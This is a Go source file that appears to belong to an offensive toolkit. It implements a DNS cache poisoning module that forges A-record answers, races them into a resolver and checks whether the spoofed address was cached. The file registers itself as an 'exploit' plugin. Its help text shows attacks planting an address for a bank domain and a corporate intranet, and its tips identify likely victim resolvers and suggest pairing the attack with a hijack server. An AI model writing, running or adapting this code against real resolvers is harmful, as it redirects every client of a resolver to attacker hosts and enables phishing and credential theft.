// internal/modules/dns_attacks/dns_cache_poison.go
package dns_attacks

import (
	"context"
	"fmt"
	"net"
	"strconv"
	"time"

	"github.com/SaudiLinux/urlget/internal/core"
	"github.com/SaudiLinux/urlget/internal/core/logger"
	"github.com/miekg/dns"
	"github.com/sirupsen/logrus"
	"golang.org/x/time/rate"
)

const forgedTTL = 300

// PoisonAttempt records one inject-and-verify round.
type PoisonAttempt struct {
	Number   int      `json:"number"`
	Resolved []string `json:"resolved,omitempty"`
	Error    string   `json:"error,omitempty"`
	Success  bool     `json:"success"`
}

// CachePoisonResult aggregates a poisoning run. Success is true once any
// verification query returned the spoofed address.
type CachePoisonResult struct {
	Target        string          `json:"target"`
	SpoofIP       string          `json:"spoof_ip"`
	Nameserver    string          `json:"nameserver"`
	TransactionID uint16          `json:"transaction_id"`
	Attempts      []PoisonAttempt `json:"attempts"`
	Success       bool            `json:"success"`
}

// CachePoisoner races forged answers against a resolver's real upstream
// reply and checks whether the resolver cached them.
type CachePoisoner struct {
	Timeout time.Duration
	// Rate caps attempts per second; zero means unlimited.
	Rate float64
	Log  logrus.FieldLogger
}

// NewCachePoisoner creates a poisoner.
func NewCachePoisoner(timeout time.Duration, perSecond float64) *CachePoisoner {
	if timeout <= 0 {
		timeout = core.DefaultProbeTimeout
	}
	return &CachePoisoner{Timeout: timeout, Rate: perSecond, Log: logger.GetLogger()}
}

// Poison forges one query and one matching response for target, then sends
// the pair to nameserver up to attempts times. Each round is verified with a
// normal lookup and the run stops at the first round that sees spoofIP.
// Network failures are recorded per attempt, never returned.
func (p *CachePoisoner) Poison(ctx context.Context, target, spoofIP, nameserver string, attempts int) (*CachePoisonResult, error) {
	ip := net.ParseIP(spoofIP).To4()
	if ip == nil {
		return nil, fmt.Errorf("%w: spoof ip %q is not an IPv4 address", core.ErrInvalidConfig, spoofIP)
	}
	if nameserver == "" {
		return nil, fmt.Errorf("%w: no nameserver to poison", core.ErrInvalidConfig)
	}
	if attempts < 1 {
		return nil, fmt.Errorf("%w: attempts must be positive", core.ErrInvalidConfig)
	}

	query, forged, err := ForgePair(target, ip)
	if err != nil {
		return nil, err
	}
	addr := core.NameserverAddr(nameserver)
	result := &CachePoisonResult{Target: target, SpoofIP: ip.String(), Nameserver: addr, TransactionID: query.Id}

	limit := rate.Inf
	if p.Rate > 0 {
		limit = rate.Limit(p.Rate)
	}
	limiter := rate.NewLimiter(limit, 1)

	p.Log.Infof("Attempting DNS cache poisoning of %s via %s (%d attempts)", target, addr, attempts)
	for n := 1; n <= attempts; n++ {
		if err := limiter.Wait(ctx); err != nil {
			break
		}
		a := p.attempt(ctx, n, query, forged, ip, addr)
		result.Attempts = append(result.Attempts, a)
		if a.Success {
			result.Success = true
			p.Log.Infof("Cache poisoning succeeded on attempt %d: %s -> %s", n, target, result.SpoofIP)
			break
		}
	}
	if !result.Success {
		p.Log.Infof("Cache poisoning of %s failed after %d attempts", target, len(result.Attempts))
	}
	return result, nil
}

func (p *CachePoisoner) attempt(ctx context.Context, n int, query, forged *dns.Msg, ip net.IP, addr string) PoisonAttempt {
	a := PoisonAttempt{Number: n}

	if err := p.inject(ctx, addr, query, forged); err != nil {
		p.Log.Debugf("Attempt %d: inject failed: %v", n, err)
		a.Error = err.Error()
		return a
	}

	c := &dns.Client{Net: "udp", Timeout: p.Timeout}
	check := new(dns.Msg)
	check.SetQuestion(query.Question[0].Name, dns.TypeA)
	r, _, err := c.ExchangeContext(ctx, check, addr)
	if err != nil {
		p.Log.Debugf("Attempt %d: verification failed: %v", n, err)
		a.Error = err.Error()
		return a
	}
	for _, rr := range r.Answer {
		if rec, ok := rr.(*dns.A); ok {
			a.Resolved = append(a.Resolved, rec.A.String())
			if rec.A.Equal(ip) {
				a.Success = true
			}
		}
	}
	return a
}

// inject writes the query and the forged reply back to back without
// waiting for an answer.
func (p *CachePoisoner) inject(ctx context.Context, addr string, query, forged *dns.Msg) error {
	d := net.Dialer{Timeout: p.Timeout}
	conn, err := d.DialContext(ctx, "udp", addr)
	if err != nil {
		return err
	}
	defer conn.Close()
	conn.SetWriteDeadline(time.Now().Add(p.Timeout))

	for _, m := range []*dns.Msg{query, forged} {
		b, err := m.Pack()
		if err != nil {
			return err
		}
		if _, err := conn.Write(b); err != nil {
			return err
		}
	}
	return nil
}

// ForgePair builds a recursive A query for target with a random id and a
// matching response that answers it with ip.
func ForgePair(target string, ip net.IP) (query, forged *dns.Msg, err error) {
	ip4 := ip.To4()
	if ip4 == nil {
		return nil, nil, fmt.Errorf("%w: %s is not an IPv4 address", core.ErrInvalidConfig, ip)
	}
	fqdn := dns.Fqdn(target)
	if _, ok := dns.IsDomainName(fqdn); !ok {
		return nil, nil, fmt.Errorf("%w: %q is not a domain name", core.ErrInvalidConfig, target)
	}

	query = new(dns.Msg)
	query.SetQuestion(fqdn, dns.TypeA)
	query.Id = dns.Id()

	forged = new(dns.Msg)
	forged.SetReply(query)
	forged.Answer = []dns.RR{&dns.A{
		Hdr: dns.RR_Header{Name: fqdn, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: forgedTTL},
		A:   ip4,
	}}
	return query, forged, nil
}

func (r *CachePoisonResult) String() string {
	msg := fmt.Sprintf("\n☠️  DNS Cache Poisoning of %s via %s:\n", r.Target, r.Nameserver)
	if r.Success {
		last := r.Attempts[len(r.Attempts)-1]
		msg += fmt.Sprintf("  SUCCESS on attempt %d: %s now resolves to %s\n", last.Number, r.Target, r.SpoofIP)
	} else {
		msg += fmt.Sprintf("  FAILED after %d attempts\n", len(r.Attempts))
	}
	return msg
}

type dnsCachePoisonPlugin struct{}

func (p *dnsCachePoisonPlugin) Name() string { return "DNSCachePoison" }
func (p *dnsCachePoisonPlugin) Description() string {
	return "Races forged A answers into a resolver's cache"
}
func (p *dnsCachePoisonPlugin) Category() string { return "exploit" }
func (p *dnsCachePoisonPlugin) Options() []core.ModuleOption {
	return []core.ModuleOption{
		{Name: "spoof_ip", Type: "string", Default: "", Description: "Address to plant for the target", Required: true},
		{Name: "nameserver", Type: "string", Default: "", Description: "Resolver to poison (default: first system resolver)", Required: false},
		{Name: "attempts", Type: "int", Default: core.DefaultAttempts, Description: "Maximum inject-and-verify rounds", Required: false},
		{Name: "rate", Type: "string", Default: "0", Description: "Attempts per second, 0 for unlimited", Required: false},
		{Name: "timeout", Type: "string", Default: "1s", Description: "Verification query timeout", Required: false},
	}
}
func (p *dnsCachePoisonPlugin) Run(target string, options map[string]interface{}) (interface{}, error) {
	ns := core.OptionString(options, "nameserver", "")
	if ns == "" {
		if system := core.SystemNameservers(); len(system) > 0 {
			ns = system[0]
		}
	}
	attempts, err := strconv.Atoi(core.OptionString(options, "attempts", strconv.Itoa(core.DefaultAttempts)))
	if err != nil {
		return nil, fmt.Errorf("%w: attempts: %v", core.ErrInvalidConfig, err)
	}
	perSecond, err := strconv.ParseFloat(core.OptionString(options, "rate", "0"), 64)
	if err != nil {
		return nil, fmt.Errorf("%w: rate: %v", core.ErrInvalidConfig, err)
	}
	timeout, _ := time.ParseDuration(core.OptionString(options, "timeout", "1s"))

	poisoner := NewCachePoisoner(timeout, perSecond)
	return poisoner.Poison(context.Background(), target, core.OptionString(options, "spoof_ip", ""), ns, attempts)
}

func (p *dnsCachePoisonPlugin) Help() string {
	return `
☠️ DNS Cache Poisoning - Plant Forged Answers in a Resolver

DESCRIPTION:
  Sends a real recursive query for the target to a resolver, immediately
  followed by a forged response carrying the chosen address, then asks the
  resolver again to see whether the forged answer was cached.

USAGE:
  dnscachepoison <domain> --spoof_ip <ip> [options]

OPTIONS:
  spoof_ip   - Address to plant for the target (required)
  nameserver - Resolver to poison (default: first system resolver)
  attempts   - Maximum rounds (default: 100)
  rate       - Attempts per second, 0 for unlimited (default: 0)
  timeout    - Verification query timeout (default: 1s)

EXAMPLES:
  dnscachepoison bank.example --spoof_ip 10.0.0.66 --nameserver 192.168.1.1
  dnscachepoison intranet.corp --spoof_ip 10.0.0.66 --attempts 1000 --rate 50

PRO TIPS:
  💡 Resolvers without source port randomization are the usual victims
  💡 Run the hijack server first so poisoned clients land somewhere useful

RISK LEVEL: Critical (alters resolution for every client of the resolver)
`
}

func init() {
	core.RegisterPlugin(&dnsCachePoisonPlugin{})
}
